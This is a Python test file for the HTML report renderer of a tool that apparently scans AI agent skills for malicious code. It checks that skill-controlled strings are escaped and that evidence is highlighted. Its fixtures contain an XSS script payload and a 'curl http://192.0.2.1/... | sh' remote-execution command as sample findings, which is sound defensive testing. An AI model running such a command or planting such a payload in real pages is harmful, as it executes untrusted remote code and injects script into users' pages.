"""The maintainer report renderer: everything from a skill is escaped, evidence is highlighted."""

from __future__ import annotations

from datetime import UTC, datetime

from skillscan.models import (
    Category,
    Decision,
    FileEntry,
    FileKind,
    Finding,
    RuleMeta,
    ScanError,
    ScanReport,
    Severity,
    SkillIdentity,
    Verdict,
)
from skillscan.report.html import Forms, HtmlRenderer, ReportPage, highlight, render_html
from skillscan.service.actions import Override, Suppression

PAYLOAD = "<script>document.title='pwned'</script>"


def _report(**overrides: object) -> ScanReport:
    finding = Finding(
        rule_id="download-pipe-shell",
        analyzer="treesitter",
        category=Category.REMOTE_EXEC,
        severity=Severity.CRITICAL,
        path=f"scripts/{PAYLOAD}.sh",
        line=7,
        message=f"pipes a download into a shell {PAYLOAD}",
        evidence=f"curl http://192.0.2.1/{PAYLOAD} | sh",
    )
    values: dict[str, object] = {
        "skill": SkillIdentity(
            owner="alice", slug="notes", version="1.0.0", name=PAYLOAD, fingerprint="ab" * 32
        ),
        "source": f"/tmp/{PAYLOAD}",
        "files": (FileEntry(f"scripts/{PAYLOAD}.sh", FileKind.SHELL, 10, "cd" * 32),),
        "findings": (finding,),
        "errors": (ScanError("semgrep", "x.py", f"timed out {PAYLOAD}"),),
        "verdict": Verdict.MALICIOUS,
        "decision": Decision.BLOCK,
        "reason": f"critical remote-exec finding {PAYLOAD}",
        "tool_version": "0.1.0",
        "ruleset_digest": "ef" * 32,
        "notes": (f"VirusTotal: 3/70 engines flag {PAYLOAD}",),
    }
    values.update(overrides)
    return ScanReport(**values)  # type: ignore[arg-type]


def test_every_skill_controlled_string_is_escaped() -> None:
    report = _report()
    now = datetime.now(UTC)
    page = ReportPage(
        report=report,
        scan_id=3,
        excerpts={f"scripts/{PAYLOAD}.sh:7": [(6, "# setup"), (7, f"curl http://192.0.2.1/{PAYLOAD} | sh")]},
        override=Override(1, 3, Verdict.MALICIOUS, f"confirmed {PAYLOAD}", "maintainer", now),
        diff={
            "previous_version": PAYLOAD,
            "added": {"network_hosts": [PAYLOAD]},
            "removed": {},
            "labels": {},
        },
        forms=Forms("/reports/3/suppress", "/reports/3/override", "csrf-token"),
    )
    html = HtmlRenderer({}).report(page)
    assert "<script" not in html.lower()
    assert "&lt;script&gt;document.title=&#39;pwned&#39;&lt;/script&gt;" in html
    assert html.count("&lt;script&gt;") >= 8  # name, title, path, message, evidence, error, note, diff, …


def test_evidence_is_highlighted_in_its_context_line() -> None:
    report = _report()
    page = ReportPage(
        report=report,
        excerpts={
            f"scripts/{PAYLOAD}.sh:7": [(6, "# setup"), (7, f"run: curl http://192.0.2.1/{PAYLOAD} | sh now")]
        },
    )
    html = HtmlRenderer({}).report(page)
    assert "<mark>curl http://192.0.2.1/&lt;script&gt;" in html
    assert '<span class="ln">6</span># setup' in html


def test_rule_description_and_suppressed_findings_are_shown() -> None:
    report = _report()
    finding = report.findings[0]
    rules = {
        finding.rule_id: RuleMeta(
            finding.rule_id,
            "treesitter",
            Category.REMOTE_EXEC,
            Severity.CRITICAL,
            "high",
            "Downloads piped to a shell.",  # type: ignore[arg-type]
        )
    }
    suppression = Suppression(
        1, finding.rule_id, finding.path, "cd" * 32, "vendored installer", "bob", datetime.now(UTC)
    )
    page = ReportPage(report=_report(findings=()), suppressed=[(finding, suppression)])
    html = HtmlRenderer(rules).report(page)
    assert "Downloads piped to a shell." in html
    assert "Suppressed by <strong>bob</strong>" in html
    assert "vendored installer" in html


def test_highlight_splits_without_losing_text() -> None:
    parts = highlight("abc curl x | sh def", "curl x | sh")
    assert "".join(p for p, _ in parts) == "abc curl x | sh def"
    assert [p for p, hit in parts if hit] == ["curl x | sh"]
    assert highlight("nothing here", "absent") == [("nothing here", False)]


def test_standalone_document_has_no_external_assets() -> None:
    html = render_html([_report()])
    assert html.startswith("<!doctype html>")
    assert "http://" not in html.replace("http://192.0.2.1", "")
    assert "<link" not in html and "<script" not in html.lower()
